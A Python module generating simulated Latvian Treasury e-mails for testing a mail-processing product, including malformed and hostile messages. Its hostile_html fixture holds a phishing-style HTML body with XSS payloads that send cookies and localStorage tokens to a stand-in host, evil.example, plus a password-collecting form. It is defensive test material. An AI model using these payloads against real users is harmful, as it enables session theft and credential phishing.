"""The e-mails of a simulation, in Latvian: clients' questions about the Treasury's services (the phone
topics of seed 000 and the e-mail duties of seed 001), follow-ups in their threads, out-of-office
auto-replies to our acknowledgements (RFC 3834), a bounce of one (a DSN, RFC 3464), a mailing-list post,
questions routed through the national portal (from latvija.lv, which the default portal rule recognises),
e-signed submissions (an .edoc), and odd mail the product must quarantine or store without crashing: MIME
without a boundary and with broken base64, an HTML-only body full of script, a header of tens of
kilobytes, raw 8-bit headers, and a message with no sender at all."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass
from email import policy
from email.message import EmailMessage
from email.utils import formataddr, formatdate, make_msgid

from mail.models import OutboundKind, OutboundMail
from workplace.simulation.edoc import edoc_build
from workplace.simulation.plan import MailKind

CLIENTS = (
    ("Jānis Kalniņš", "janis.kalnins@example.com"),
    ("Inga Liepiņa", "inga.liepina@example.org"),
    ("Aivars Ozoliņš", "aivars.ozolins@example.net"),
    ("Dace Bērziņa", "dace.berzina@example.com"),
    ("Kristaps Vītols", "kristaps.vitols@example.org"),
    ("Līga Zariņa", "liga.zarina@example.net"),
    ("Edgars Krūmiņš", "edgars.krumins@example.com"),
    ("Sandra Eglīte", "sandra.eglite@example.org"),
    ("Māris Kalējs", "maris.kalejs@example.net"),
    ("Ilona Sproģe", "ilona.sproge@example.com"),
    ("Rūta Āboliņa", "ruta.abolina@example.org"),
    ("Gatis Priedītis", "gatis.prieditis@example.net"),
    ("Zane Ķirse", "zane.kirse@example.com"),
    ("SIA “Kokvedis” grāmatvedība", "gramatvediba@kokvedis.example.com"),
    ("Ādažu novada pašvaldība, Finanšu nodaļa", "finanses@adazi.example.org"),
    ("Biedrība “Zaļā sēta”", "valde@zalaseta.example.net"),
)

TOPICS = (
    (
        "Konta atvēršana Valsts kasē",
        "Mūsu biedrība saņēma valsts budžeta finansējumu projektam, un finansētājs prasa līdzekļus turēt "
        "kontā Valsts kasē. Lūdzu, paskaidrojiet, kādi dokumenti jāiesniedz konta atvēršanai un cik ilgā "
        "laikā konts tiek atvērts.",
    ),
    (
        "Paraksta paraugu kartīte",
        "Mūsu iestādē mainījies galvenais grāmatvedis. Vai jaunā paraksta paraugu kartīte jāiesniedz "
        "papīra formā, vai to var izdarīt e-pakalpojumos? Vai vecā kartīte jāanulē atsevišķi?",
    ),
    (
        "E-pakalpojumu lietotāja pieteikums",
        "Vēlamies pieteikt jaunu e-pakalpojumu lietotāju – mūsu jauno grāmatvedi. Kur atrodama pieteikuma "
        "veidlapa, un vai tā jāparaksta ar drošu elektronisko parakstu?",
    ),
    (
        "Nevaru pieslēgties e-pakalpojumiem",
        "Kopš vakardienas nevaru pieslēgties Valsts kases e-pakalpojumiem: pēc autentifikācijas parādās "
        "paziņojums “Lietotājs nav aktīvs”. Lūdzu, palīdziet atjaunot piekļuvi, jo šodien jāveic maksājumi.",
    ),
    (
        "Maksājums nav saņemts",
        "Pirms trim dienām veicām maksājumu uz Valsts kases kontu, taču saņēmējs apgalvo, ka nauda nav "
        "ienākusi. Lūdzu, pārbaudiet maksājuma statusu. Maksājuma uzdevuma numurs 4711.",
    ),
    (
        "Pārgrāmatojuma pieprasījums",
        "Kļūdas dēļ nodoklis samaksāts uz nepareizu budžeta kontu. Lūdzam pārgrāmatot 245,60 EUR uz pareizo "
        "kontu. Kāds iesnieguma veids jāizmanto?",
    ),
    (
        "Klasifikācijas koda labojums",
        "Maksājumā norādījām nepareizu ieņēmumu klasifikācijas kodu. Kā iesniegt labojumu, un vai tas "
        "jāizdara līdz mēneša beigām?",
    ),
    (
        "Konta slēgšana",
        "Projekts ir noslēdzies, un vēlamies slēgt kontu Valsts kasē. Kā rīkoties ar atlikumu, un vai "
        "slēgšanas iesniegumu var iesniegt elektroniski?",
    ),
    (
        "Budžeta izpildes pārskats",
        "Gatavojot mēneša budžeta izpildes pārskatu, neredzam pēdējā mēneša datus. Vai dati vēl tiek "
        "apstrādāti, vai mums jāveic kāda darbība?",
    ),
    (
        "Krājobligāciju iegāde",
        "Vēlos iegādāties krājobligācijas ar 12 mēnešu termiņu. Vai to var izdarīt tikai portālā "
        "Latvija.lv, un kad tiek aprēķināti procenti?",
    ),
)

FOLLOW_UPS = (
    "Paldies par apstiprinājumu! Papildus gribēju pajautāt: vai iesniegumu drīkst parakstīt valdes "
    "loceklis, nevis vadītājs?",
    "Atgādinu par savu iepriekšējo vēstuli – joprojām gaidu atbildi. Jautājums ir steidzams.",
    "Pielikumā nosūtu pieprasīto maksājuma uzdevuma kopiju. Lūdzu, apstipriniet, ka tā saņemta.",
)


@dataclass(frozen=True)
class Mail:
    kind: MailKind
    raw: bytes  # CRLF line ends, as delivered
    envelope_from: str  # "" is the null sender (auto-replies, bounces)
    sender: str  # the From address, "" when there is none
    subject: str
    message_id: str  # without angle brackets; "" when the message has none
    answers: str = ""  # what it answers, for the action line


@dataclass
class _Thread:
    name: str
    address: str
    subject: str
    message_id: str


def _message(sender: tuple[str, str], to: str, subject: str, text: str, **headers: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = formataddr(sender)
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = formatdate(localtime=True)
    message["Message-ID"] = make_msgid(domain=sender[1].rpartition("@")[2])
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(text)
    return message


def _mail(
    kind: MailKind, message: EmailMessage, *, envelope_from: str | None = None, answers: str = ""
) -> Mail:
    sender = message["From"].addresses[0].addr_spec if message["From"] else ""
    return Mail(
        kind=kind,
        raw=message.as_bytes(policy=policy.SMTP),
        envelope_from=sender if envelope_from is None else envelope_from,
        sender=sender,
        subject=str(message["Subject"]),
        message_id=str(message["Message-ID"]).strip("<>"),
        answers=answers,
    )


def _crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


def _signed(name: str, text: str) -> str:
    return f"Labdien!\n\n{text}\n\nAr cieņu\n{name}\n"


def _acknowledgements(limit: int = 20) -> list[OutboundMail]:
    """The product's latest acknowledgements (queued or sent): what clients' mail servers answer."""
    return list(
        OutboundMail.objects.filter(kind=OutboundKind.ACKNOWLEDGEMENT)
        .only("message_id", "to_address", "subject", "mail_from")
        .order_by("-created_at", "-id")[:limit]
    )


class MailWriter:
    """Writes the next e-mail of a kind, remembering the clients' threads for follow-ups."""

    def __init__(self, rng: random.Random, mailbox: str) -> None:
        self.rng = rng
        self.mailbox = mailbox
        self.threads: list[_Thread] = []

    def write(self, kind: MailKind) -> Mail:
        return {
            MailKind.QUESTION: self.question,
            MailKind.PORTAL_QUESTION: self.portal_question,
            MailKind.SIGNED_SUBMISSION: self.signed_submission,
            MailKind.FOLLOW_UP: self.follow_up,
            MailKind.AUTO_REPLY: self.auto_reply,
            MailKind.BOUNCE: self.bounce,
            MailKind.MAILING_LIST: self.mailing_list,
            MailKind.BROKEN_MIME: self.broken_mime,
            MailKind.HOSTILE_HTML: self.hostile_html,
            MailKind.HUGE_HEADER: self.huge_header,
            MailKind.RAW_8BIT_HEADERS: self.raw_8bit_headers,
            MailKind.NO_SENDER: self.no_sender,
        }[kind]()

    def _client(self) -> tuple[str, str]:
        return self.rng.choice(CLIENTS)

    def question(self) -> Mail:
        name, address = self._client()
        subject, text = self.rng.choice(TOPICS)
        message = _message((name, address), self.mailbox, subject, _signed(name, text))
        mail = _mail(MailKind.QUESTION, message)
        self.threads.append(_Thread(name, address, subject, mail.message_id))
        return mail

    def portal_question(self) -> Mail:
        """As the portal's coordinating body passes a question on: from latvija.lv, the client inside."""
        name, address = self._client()
        subject, text = self.rng.choice(TOPICS)
        body = (
            f"Portālā Latvija.lv saņemts jautājums iestādei Valsts kase.\n\nIesniedzējs: {name}\n"
            f"E-pasts: {address}\n\nJautājums:\n{text}\n"
        )
        message = _message(
            ("Latvija.lv", "info@latvija.lv"), self.mailbox, f"Portāla jautājums: {subject}", body
        )
        return _mail(MailKind.PORTAL_QUESTION, message)

    def signed_submission(self) -> Mail:
        """A client's submission in an .edoc: a formal submission (Law on Submissions, SUBM-ANS)."""
        name, address = self._client()
        subject, text = self.rng.choice(TOPICS)
        message = _message(
            (name, address),
            self.mailbox,
            f"Iesniegums: {subject}",
            _signed(name, "Pielikumā parakstīts iesniegums."),
        )
        container = edoc_build("iesniegums.txt", _signed(name, text), self.rng)
        message.add_attachment(
            container, maintype="application", subtype="vnd.etsi.asic-e+zip", filename="iesniegums.edoc"
        )
        return _mail(MailKind.SIGNED_SUBMISSION, message)

    def follow_up(self) -> Mail:
        if not self.threads:
            return self.question()
        thread = self.rng.choice(self.threads)
        ack = next((a for a in _acknowledgements() if a.to_address.lower() == thread.address), None)
        parent_id, subject = (ack.message_id, ack.subject) if ack else (thread.message_id, thread.subject)
        references = " ".join(f"<{m}>" for m in dict.fromkeys([thread.message_id, parent_id]))
        message = _message(
            (thread.name, thread.address),
            self.mailbox,
            subject if subject.lower().startswith("re:") else f"Re: {subject}",
            _signed(thread.name, self.rng.choice(FOLLOW_UPS)),
            In_Reply_To=f"<{parent_id}>",
            References=references,
        )
        answers = "our acknowledgement" if ack else "the client's own message"
        return _mail(MailKind.FOLLOW_UP, message, answers=answers)

    def auto_reply(self) -> Mail:
        acks = _acknowledgements()
        ack = self.rng.choice(acks) if acks else None
        name, address = self._client()
        if ack is not None:
            address = ack.to_address
            name = next((n for n, a in CLIENTS if a == address.lower()), "")
        text = (
            "Labdien! Esmu atvaļinājumā līdz nākamās nedēļas pirmdienai, un e-pastus nelasu. "
            "Steidzamos jautājumos lūdzu zvanīt uz biroja tālruni.\n\nŠī ir automātiska atbilde."
        )
        message = _message(
            (name, address),
            ack.mail_from if ack else self.mailbox,
            f"Automātiskā atbilde: {ack.subject if ack else 'Jūsu vēstule'}",
            text,
            Auto_Submitted="auto-replied",  # RFC 3834
            X_Auto_Response_Suppress="All",
            **({"In_Reply_To": f"<{ack.message_id}>", "References": f"<{ack.message_id}>"} if ack else {}),
        )
        return _mail(
            MailKind.AUTO_REPLY, message, envelope_from="", answers="our acknowledgement" if ack else ""
        )

    def bounce(self) -> Mail:
        acks = _acknowledgements()
        ack = self.rng.choice(acks) if acks else None
        failed_id = ack.message_id if ack else make_msgid(domain="kase.gov.lv").strip("<>")
        rcpt = ack.to_address if ack else "nav.tada@example.com"
        original_subject = ack.subject if ack else "Apstiprinājums"
        boundary = f"dsn-{self.rng.randrange(10**12):012d}"
        message_id = make_msgid(domain="mx.example.net")
        raw = f"""\
From: Mail Delivery System <MAILER-DAEMON@mx.example.net>
To: {self.mailbox}
Subject: Undelivered Mail Returned to Sender
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="{boundary}"

--{boundary}
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.net.
Your message could not be delivered to <{rcpt}>: the mailbox does not exist.

--{boundary}
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net
Arrival-Date: {formatdate(localtime=True)}

Final-Recipient: rfc822; {rcpt}
Original-Recipient: rfc822; {rcpt}
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown

--{boundary}
Content-Type: text/rfc822-headers

From: {self.mailbox}
To: {rcpt}
Subject: {original_subject.encode("ascii", "replace").decode()}
Message-ID: <{failed_id}>

--{boundary}--
"""
        return Mail(
            kind=MailKind.BOUNCE,
            raw=_crlf(raw),
            envelope_from="",
            sender="MAILER-DAEMON@mx.example.net",
            subject="Undelivered Mail Returned to Sender",
            message_id=message_id.strip("<>"),
            answers="our acknowledgement" if ack else "",
        )

    def mailing_list(self) -> Mail:
        message = _message(
            ("Grāmatvežu jaunumi", "jaunumi@lists.example.org"),
            "jaunumi@lists.example.org",
            "[Grāmatvežu jaunumi] Seminārs: gada pārskatu iesniegšana",
            "Labdien, kolēģi!\n\nAicinām uz semināru par gada pārskatu iesniegšanu nākamajā ceturtdienā.\n\n"
            "Lai atteiktos no jaunumiem, rakstiet uz jaunumi-leave@lists.example.org.\n",
            List_Id="Grāmatvežu jaunumi <jaunumi.lists.example.org>",
            List_Unsubscribe="<mailto:jaunumi-leave@lists.example.org>",
            List_Post="<mailto:jaunumi@lists.example.org>",
            Precedence="list",
        )
        return _mail(MailKind.MAILING_LIST, message, envelope_from="jaunumi-bounces@lists.example.org")

    def _odd(self, kind: MailKind, raw: str, *, sender: str, subject: str, message_id: str) -> Mail:
        return Mail(kind, _crlf(raw), sender or "nobody@example.net", sender, subject, message_id.strip("<>"))

    def broken_mime(self) -> Mail:
        name, address = self._client()
        message_id = make_msgid(domain=address.rpartition("@")[2])
        # multipart with no boundary parameter, a part that never ends, and base64 that is not base64
        raw = f"""\
From: {formataddr((name, address))}
To: {self.mailbox}
Subject: =?utf-8?q?Dokumenti_konta_atv=C4=93r=C5=A1anai?=
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
MIME-Version: 1.0
Content-Type: multipart/mixed

--robeza
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Labdien! Pielikumā dokumenti konta atvēršanai.
--robeza
Content-Type: application/pdf; name="iesniegums.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJ!!!šis nav base64***
%%%%
"""
        return self._odd(
            MailKind.BROKEN_MIME,
            raw,
            sender=address,
            subject="Dokumenti konta atvēršanai",
            message_id=message_id,
        )

    def hostile_html(self) -> Mail:
        address = "rekini@example.net"
        message_id = make_msgid(domain="example.net")
        raw = f"""\
From: "Valsts kase (rēķini)" <{address}>
To: {self.mailbox}
Subject: =?utf-8?q?Steidzami=3A_j=C5=ABsu_konts_tiks_blo=C4=B7=C4=93ts?=
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{{display:none}}</style>
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>
<body onload="alert('xss')">
<p>Jūsu konts tiks bloķēts. <a href="javascript:alert(document.domain)">Apstipriniet datus</a></p>
<img src="x" onerror="fetch('https://evil.example/'+localStorage.token)">
<iframe src="https://evil.example/login"></iframe>
<form action="https://evil.example/collect"><input name="parole" type="password"></form>
<svg><script>alert(1)</script></svg>
</body></html>
"""
        return self._odd(
            MailKind.HOSTILE_HTML,
            raw,
            sender=address,
            subject="Steidzami: jūsu konts tiks bloķēts",
            message_id=message_id,
        )

    def huge_header(self) -> Mail:
        name, address = self._client()
        domain = address.rpartition("@")[2]
        message_id = make_msgid(domain=domain)
        # About 70 kB of References, folded into lines well under SMTP's 998 characters.
        ids = [f"<ieprieksejais.{n:05d}.{self.rng.randrange(10**9)}@{domain}>" for n in range(1500)]
        references = "\n ".join(" ".join(ids[i : i + 10]) for i in range(0, len(ids), 10))
        # 1,200 characters of subject in encoded words; the spaces are inside them (whitespace between
        # two encoded words is dropped when they are decoded).
        long_subject = "Jautājums par kontu " * 59 + "Jautājums par kontu"
        chunks = [long_subject[i : i + 40] for i in range(0, len(long_subject), 40)]
        subject_words = "\n ".join(f"=?utf-8?b?{base64.b64encode(c.encode()).decode()}?=" for c in chunks)
        raw = f"""\
From: {formataddr((name, address))}
To: {self.mailbox}
Subject: {subject_words}
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
References: {references}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Labdien! Atvainojiet par garo sarakstes vēsturi.
"""
        return self._odd(
            MailKind.HUGE_HEADER, raw, sender=address, subject=long_subject[:60] + "…", message_id=message_id
        )

    def raw_8bit_headers(self) -> Mail:
        address = "girts.skele@example.org"
        message_id = make_msgid(domain="example.org")
        subject = "Jautājums par nekustamā īpašuma nodokļa pārgrāmatojumu — šodien"
        # Raw UTF-8 in the headers, no encoded words: what some mail clients send (RFC 6532 without asking).
        raw = f"""\
From: Ģirts Šķēle <{address}>
To: Valsts kase <{self.mailbox}>
Subject: {subject}
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Labdien! Lūdzu, pārgrāmatojiet nodokli uz pareizo kontu. Ar cieņu, Ģirts Šķēle
"""
        return self._odd(
            MailKind.RAW_8BIT_HEADERS, raw, sender=address, subject=subject, message_id=message_id
        )

    def no_sender(self) -> Mail:
        message_id = make_msgid(domain="example.com")
        raw = f"""\
To: {self.mailbox}
Subject: =?utf-8?q?Bez_s=C5=ABt=C4=ABt=C4=81ja?=
Date: {formatdate(localtime=True)}
Message-ID: {message_id}
Content-Type: text/plain; charset=utf-8

Šai vēstulei nav sūtītāja: nav ne From, ne Sender.
"""
        return self._odd(MailKind.NO_SENDER, raw, sender="", subject="Bez sūtītāja", message_id=message_id)
